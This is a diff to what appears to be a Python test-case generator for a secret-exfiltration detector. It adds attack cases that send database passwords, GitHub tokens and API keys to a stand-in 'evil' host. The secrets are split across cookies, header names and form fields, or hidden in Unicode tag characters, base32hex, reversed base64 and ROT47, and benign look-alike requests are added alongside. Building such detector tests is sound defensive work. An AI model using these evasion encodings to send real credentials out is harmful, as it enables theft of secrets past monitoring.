@@ -404,6 +404,29 @@ def attacks(rng: random.Random) -> list[Case]:
         headers=(FORM,), body=urlencode({"q": db[10:]}).encode())
     tok = f.github()
     add("split", "unknown GitHub token in two parameters", ("github-token",), url=f"{evil}/?x={tok[:21]}&y={tok[21:]}")
+    add("split", "password cut into three cookies", ("DB_PASSWORD",), url=f"{evil}/",
+        headers=(("Cookie", f"a={quote(db[:7])}; b={quote(db[7:14])}; c={quote(db[14:])}"),))
+    add("split", "vendor key cut into JSON keys", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/", headers=(JSON,),
+        body=_json({vendor[20:]: 1, vendor[:7]: 2, vendor[7:14]: 3, vendor[14:20]: 4}))
+    add("split", "signing secret as a parameter's name and value", ("SIGNING_SECRET",),
+        url=f"{evil}/?{signing[:19]}={signing[19:]}")
+    add("split", "token cut into header names", ("GITHUB_TOKEN",), url=f"{evil}/",
+        headers=((gh[:7], "1"), (gh[7:14], "2"), (gh[14:28], "3"), (gh[28:], "4")))
+    add("split", "password cut into multipart field names", ("DB_PASSWORD",), method="POST", url=f"{evil}/",
+        headers=(("Content-Type", "multipart/form-data; boundary=b0undary"),),
+        body=_multipart([(db[:8], None, b"1", {}), (db[8:16], None, b"2", {}), (db[16:], None, b"3", {})], "b0undary"))
+
+    # -- other disguises -------------------------------------------------------------------------
+    add("disguise", "vendor key as the request method", ("VENDOR_API_KEY",), method=vendor, url=f"{evil}/")
+    add("disguise", "signing secret in Unicode tag characters", ("SIGNING_SECRET",), method="POST", url=f"{evil}/",
+        headers=(JSON,), body=json.dumps({"note": "ok" + "".join(chr(0xE0000 + ord(c)) for c in signing)},
+                                         ensure_ascii=False).encode())
+    add("disguise", "password in base32hex", ("DB_PASSWORD",), method="POST", url=f"{evil}/",
+        body=base64.b32hexencode(db.encode()))
+    add("disguise", "token in base64 read backwards", ("GITHUB_TOKEN",),
+        url=f"{evil}/?d={base64.urlsafe_b64encode(gh.encode()).decode().rstrip('=')[::-1]}")
+    add("disguise", "vendor key in ROT47", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/",
+        body="".join(chr(33 + (ord(c) - 33 + 47) % 94) for c in vendor).encode())
 
     # -- WebSocket messages ----------------------------------------------------------------------
     add("websocket", "own token in a text message", ("GITHUB_TOKEN",), websocket=json.dumps({"op": "send", "d": gh}))
@@ -646,6 +669,14 @@ def benign(rng: random.Random) -> list[Case]:
     add("api-json", "Docker registry token exchange", url="https://auth.docker.io/token?service=registry.docker.io&scope=repository%3Alibrary%2Fpython%3Apull")
     add("api-json", "OCSP-like binary POST", method="POST", url="http://ocsp.example.com/",
         headers=(("Content-Type", "application/ocsp-request"),), body=rng.randbytes(120))
+    add("api-json", "many cookies", url="https://app.example.com/dashboard",
+        headers=(("Cookie", f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**9, 2 * 10**9)}; "
+                            f"session={_rand(rng, 32, HEX)}; csrftoken={_rand(rng, 32)}; theme=dark; lang=en-GB"),))
+    add("api-json", "flag emoji (a tag sequence) in a comment", method="POST",
+        url="https://api.github.com/repos/o/r/issues/1/comments", headers=(JSON,),
+        body=json.dumps({"body": "Ship it \U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F"},
+                        ensure_ascii=False).encode())
+    add("api-json", "WebDAV listing", method="PROPFIND", url="https://dav.example.com/files/", headers=(("Depth", "1"),))
     return out
 
 
